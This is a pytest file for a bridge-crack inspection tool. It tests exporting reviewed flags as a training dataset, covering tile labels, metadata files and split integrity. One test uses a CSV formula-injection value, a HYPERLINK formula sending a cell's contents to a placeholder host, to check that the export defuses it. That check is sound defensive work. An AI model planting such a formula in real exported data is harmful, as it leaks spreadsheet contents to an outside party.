"""Export of reviewed flags as a distill dataset: the inspector's labels (frame and tile), never
the model's verdict; one source per flag, so ``distill split`` never cuts a frame in two."""
from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path

import cv2
import numpy as np
import pytest

from inspector.store.export import ExportReport
from inspector.review.queue import ReviewQueue
from inspector.store.database import FlagStore, StoreError
from inspector.store.query import FlagFilter
from support import store  # noqa: F401  (a fixture)
from store_support import TILE_BOXES, add, real_frame


def reviewed_store(store):
    """Four flags: crack with tiles marked, clean, unsure, unreviewed (student tiles differ)."""
    frames = [real_frame("crack", 0), real_frame("no_crack", 0), real_frame("crack", 1), real_frame("crack", 2)]
    crack = add(store, frames[0], probs=(0.95, 0.2, 0.5, 0.49), location="pier 3", note='say "hi", ok')
    clean = add(store, frames[1], probs=(0.9, 0.1, 0.7, 0.05), reason="uncertain")
    unsure = add(store, frames[2], probs=(0.3, 0.8, 0.1, 0.6), reason="manual")
    unreviewed = add(store, frames[3], probs=(0.6, 0.6, 0.6, 0.6))
    # the inspector disagrees with the student on tiles 0 and 1 of the crack frame
    store.set_review(crack.id, label="crack", tile_labels=["no_crack", "crack", "crack", "no_crack"], reviewer="ana")
    store.set_review(clean.id, label="no_crack", tile_labels=["no_crack"] * 4, tile_sources=["frame_clean"] * 4,
                     reviewer="ana")
    store.set_review(unsure.id, label="unsure", reviewer="ana")
    return frames, (crack, clean, unsure, unreviewed)


def stems(samples) -> dict[str, str]:
    from distill.data.samples import LABELS as DISTILL_LABELS

    return {Path(s.path).stem: DISTILL_LABELS[s.label] for s in samples}


def test_export_uses_the_review_and_reads_back_as_a_distill_dataset(store, tmp_path):
    from distill.data.layouts import read_dataset

    frames, (crack, clean, unsure, unreviewed) = reviewed_store(store)
    out = tmp_path / "export"
    report = store.export_dataset(out)
    assert report == ExportReport(out, flags=2, crack=2, no_crack=6, unlabelled=0, reviewed=8, left_out=2)
    samples = read_dataset(out, layout="auto")
    expected = {**{f"{crack.uid}_{i:03d}": lab for i, lab in enumerate(["no_crack", "crack", "crack", "no_crack"])},
                **{f"{clean.uid}_{i:03d}": "no_crack" for i in range(4)}}
    assert stems(samples) == expected            # the student said crack on tile 0: the review wins
    assert {s.source for s in samples} == {f"flag:{crack.uid}", f"flag:{clean.uid}"}   # one source per frame
    for s in samples:  # each patch is the tile's crop of the stored frame
        uid, index = Path(s.path).stem.split("_")
        box = TILE_BOXES[int(index)]
        frame = frames[[crack.uid, clean.uid].index(uid)]
        patch = cv2.cvtColor(cv2.imread(s.path, cv2.IMREAD_COLOR), cv2.COLOR_BGR2RGB)
        np.testing.assert_array_equal(patch, frame[box[1]:box[3], box[0]:box[2]])

    with open(out / "metadata.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    meta = json.loads((out / "metadata.json").read_text(encoding="utf-8"))
    assert meta["format"] == "crack-inspector-flags-export/2" and len(rows) == len(meta["patches"]) == 8
    first = meta["patches"][0]
    assert first == {"file": f"no_crack/{crack.uid}_000.png", "flag_uid": crack.uid, "source": crack.uid,
                     "box": [0, 0, 150, 150], "label": "no_crack", "label_source": "tile_marked", "crack_prob": 0.95,
                     "teacher_prob": None, "frame_label": "crack", "reviewer": "ana",
                     "reviewed_at": store.get(crack.id).reviewed_at, "camera": "camera 0",
                     "model_name": "crack-student", "model_version": "1.0.0", "model_sha256": "ab" * 32,
                     "created": crack.created, "location": "pier 3", "note": 'say "hi", ok'}
    assert rows[0]["box"] == "0 0 150 150" and rows[0]["note"] == 'say "hi", ok'
    assert [r["label_source"] for r in rows] == ["tile_marked"] * 4 + ["frame_clean"] * 4
    with pytest.raises(StoreError, match="not an empty folder"):
        store.export_dataset(out)


def test_include_unreviewed_goes_to_unlabelled_and_distill_ignores_it(store, tmp_path):
    from distill.data.layouts import read_dataset

    _, (crack, clean, unsure, unreviewed) = reviewed_store(store)
    out = tmp_path / "export"
    report = store.export_dataset(out, include_unreviewed=True)
    assert (report.crack, report.no_crack, report.unlabelled, report.left_out) == (2, 6, 8, 0)
    assert {p.stem.split("_")[0] for p in (out / "unlabelled").glob("*.png")} == {unsure.uid, unreviewed.uid}
    assert len(read_dataset(out)) == 8           # labelled patches only


def test_a_tile_toggle_changes_the_export(store, tmp_path):
    _, (crack, *_) = reviewed_store(store)
    store.export_dataset(tmp_path / "before")
    ReviewQueue(store).toggle_tile(3, flag_id=crack.id)
    store.export_dataset(tmp_path / "after")
    name = f"{crack.uid}_003.png"
    assert (tmp_path / "before" / "no_crack" / name).is_file() and (tmp_path / "after" / "crack" / name).is_file()


def test_a_crack_frame_without_tile_labels_is_left_out_not_guessed(store, tmp_path):
    rec = add(store, real_frame("crack", 0))
    store.set_review(rec.id, label="crack")   # as a v2 app labelled it: which tiles, nobody said
    report = store.export_dataset(tmp_path / "out")
    assert (report.patches, report.needs_tiles) == (0, (rec.uid,))


def sources_of(out: Path, uid: str) -> dict[str, tuple[str, str]]:
    """file -> (label, label_source) of one flag's patches in an export."""
    meta = json.loads((out / "metadata.json").read_text(encoding="utf-8"))
    return {p["file"]: (p["label"], p["label_source"]) for p in meta["patches"] if p["flag_uid"] == uid}


def test_c_on_a_frame_the_student_called_clean_writes_no_clean_patch(store, tmp_path):
    """The issue's reproduction: 4 tiles at p 0.1-0.45, C, export: no no_crack patch of that frame
    (v3 wrote all 4 to no_crack/ as "review" labels). The frame needs its crack tiles; marking
    one makes that tile crack and leaves the others unknown."""
    rec = add(store, real_frame("crack", 0), probs=(0.1, 0.25, 0.35, 0.45))
    q = ReviewQueue(store, reviewer="ana")
    q.set_label("crack")
    after_c = store.get(rec.id)
    assert (after_c.label, after_c.tile_labels, after_c.needs_tiles) == ("crack", None, True)
    report = store.export_dataset(tmp_path / "c")
    assert (report.crack, report.no_crack, report.needs_tiles) == (0, 0, (rec.uid,))
    from inspector.store.export import count_export
    assert count_export(store)["no_crack"] == 0 and count_export(store)["needs_tiles"] == 1
    report = store.export_dataset(tmp_path / "c_teachers", include_unreviewed=True)
    assert (report.no_crack, report.unlabelled) == (0, 4)        # unknown tiles go to the teachers only
    assert set(sources_of(tmp_path / "c_teachers", rec.uid).values()) == {("unlabelled", "unlabelled")}

    q.toggle_tile(2, flag_id=rec.id)                             # the inspector marks the crack tile
    marked = store.get(rec.id)
    assert (marked.label, marked.tile_labels, marked.needs_tiles) == ("crack", (None, None, "crack", None), False)
    report = store.export_dataset(tmp_path / "marked")
    assert (report.crack, report.no_crack, report.needs_tiles) == (1, 0, ())
    assert sources_of(tmp_path / "marked", rec.uid) == {f"crack/{rec.uid}_002.png": ("crack", "tile_marked")}


def test_batch_c_leaves_every_frame_s_unmarked_tiles_unknown_as_one_undo_step(store, tmp_path):
    a = add(store, real_frame("crack", 0), probs=(0.1, 0.2, 0.3, 0.45))
    b = add(store, real_frame("crack", 1), probs=(0.9, 0.2, 0.3, 0.1))
    c = add(store, real_frame("crack", 2), probs=(0.3, 0.2, 0.3, 0.1))
    q = ReviewQueue(store, reviewer="ana")
    q.toggle_tile(1, flag_id=b.id)                  # a person's mark on b survives the C
    q.set_label("no_crack", ids=[c.id])             # N on c, then C: N's "all clean" no longer holds
    q.set_label("crack", ids=[a.id, b.id, c.id])
    recs = {r.id: r for r in store.get_many([a.id, b.id, c.id])}
    assert [recs[i].label for i in (a.id, b.id, c.id)] == ["crack"] * 3
    assert (recs[a.id].tile_labels, recs[c.id].tile_labels) == (None, None)
    assert recs[b.id].tile_labels == (None, "crack", None, None)
    assert store.query_ids(FlagFilter(state="needs_tiles")) == sorted([a.id, c.id], reverse=True)
    report = store.export_dataset(tmp_path / "out")
    assert (report.crack, report.no_crack, sorted(report.needs_tiles)) == (1, 0, sorted([a.uid, c.uid]))
    q.undo()                                        # the whole batch
    assert [r.label for r in store.get_many([a.id, b.id, c.id])] == [None, "crack", "no_crack"]


def test_space_and_n_record_how_the_labels_were_given(store, tmp_path):
    accepted = add(store, real_frame("crack", 0), probs=(0.9, 0.2, 0.3, 0.1))
    clean = add(store, real_frame("no_crack", 0), probs=(0.6, 0.2, 0.3, 0.1))
    q = ReviewQueue(store, reviewer="ana", auto_advance=False)
    q.accept(ids=[accepted.id])
    q.set_label("no_crack", ids=[clean.id])
    assert store.get(accepted.id).tile_sources == ("accepted",) * 4
    assert store.get(clean.id).tile_sources == ("frame_clean",) * 4
    store.export_dataset(tmp_path / "out")
    assert sources_of(tmp_path / "out", accepted.uid) == {
        f"{label}/{accepted.uid}_{i:03d}.png": (label, "verdicts_accepted")
        for i, label in enumerate(["crack", "no_crack", "no_crack", "no_crack"])}
    assert sources_of(tmp_path / "out", clean.uid) == {
        f"no_crack/{clean.uid}_{i:03d}.png": ("no_crack", "frame_clean") for i in range(4)}
    with open(tmp_path / "out" / "metadata.csv", newline="", encoding="utf-8") as f:
        assert {r["label_source"] for r in csv.DictReader(f)} == {"verdicts_accepted", "frame_clean"}


def test_a_flag_whose_image_is_gone_is_skipped(store, tmp_path):
    _, (crack, clean, *_) = reviewed_store(store)
    (store.root / crack.frame_file).unlink()
    report = store.export_dataset(tmp_path / "out")
    assert (report.flags, report.no_crack, report.skipped) == (1, 4, (crack.uid,))


def test_export_then_distill_split_never_puts_a_flag_in_two_splits(tmp_path):
    """Sixty reviewed frames with crack and clean tiles each → ``distill split``: every flag's
    tiles are in exactly one of train / val / test. (Flag uids are random; with 20 frames a val or
    test split came out empty, which ``distill split`` refuses, in 2 * 0.85**20 = 8 % of runs; with
    60 in 0.01 %.)"""
    from distill.cli import main as distill_main

    root = tmp_path / "flags"
    with FlagStore(root) as s:
        for i in range(60):
            rec = add(s, real_frame("crack", i), probs=(0.9, 0.1, 0.8, 0.2))
            s.set_review(rec.id, label="crack", tile_labels=["crack", "no_crack", "crack", "no_crack"])
        s.export_dataset(tmp_path / "export")
    assert distill_main(["split", str(tmp_path / "export"), "--out", str(tmp_path / "splits")]) == 0
    split_of: dict[str, set[str]] = {}
    for split in ("train", "val", "test"):
        with open(tmp_path / "splits" / f"{split}.csv", newline="") as f:
            for row in csv.DictReader(f):
                split_of.setdefault(Path(row["path"]).stem.split("_")[0], set()).add(split)
    assert len(split_of) == 60 and all(len(v) == 1 for v in split_of.values())
    assert len({next(iter(v)) for v in split_of.values()}) == 3   # and the split did split


def test_export_csv_cannot_carry_a_spreadsheet_formula(store, tmp_path):
    """What an inspector types (note, location) opens in a spreadsheet as text, never as a
    formula; metadata.json keeps it exactly as typed."""
    note, location = '=HYPERLINK("http://x.example/?"&A1,"click")', "+49 pier 3"
    rec = add(store, real_frame("crack", 0), probs=(0.95, 0.2, 0.5, 0.49), location=location, note=note)
    store.set_review(rec.id, label="no_crack", tile_labels=["no_crack"] * 4)
    store.export_dataset(tmp_path / "export")
    with open(tmp_path / "export" / "metadata.csv", newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert {(r["note"], r["location"]) for r in rows} == {("'" + note, "'" + location)}
    meta = json.loads((tmp_path / "export" / "metadata.json").read_text(encoding="utf-8"))
    assert {(p["note"], p["location"]) for p in meta["patches"]} == {(note, location)}


def test_inspector_export_flags_command(tmp_path, capsys):
    """``inspector --store DIR --export-flags OUT``: no window, no model; refuses a non-empty OUT."""
    from inspector.qt.main import main

    root = tmp_path / "flags"
    with FlagStore(root) as s:
        reviewed_store(s)
    out = tmp_path / "dataset"
    assert main(["--store", str(root), "--export-flags", str(out)]) == 0
    assert "left out 2 unreviewed or 'unsure' flags" in capsys.readouterr().out
    assert len(list((out / "crack").glob("*.png"))) == 2 and len(list((out / "no_crack").glob("*.png"))) == 6
    assert main(["--store", str(root), "--export-flags", str(out)]) == 2  # not into a non-empty folder
    assert main(["--store", str(root), "--export-flags", str(tmp_path / "all"), "--include-unreviewed"]) == 0
    assert len(list((tmp_path / "all" / "unlabelled").glob("*.png"))) == 8
    code = (f"import sys; from inspector.qt.main import main; "
            f"rc = main(['--store', {str(root)!r}, '--export-flags', {str(tmp_path / 'again')!r}]); "
            f"assert 'PySide6' not in sys.modules; sys.exit(rc)")
    assert subprocess.run([sys.executable, "-c", code], capture_output=True).returncode == 0
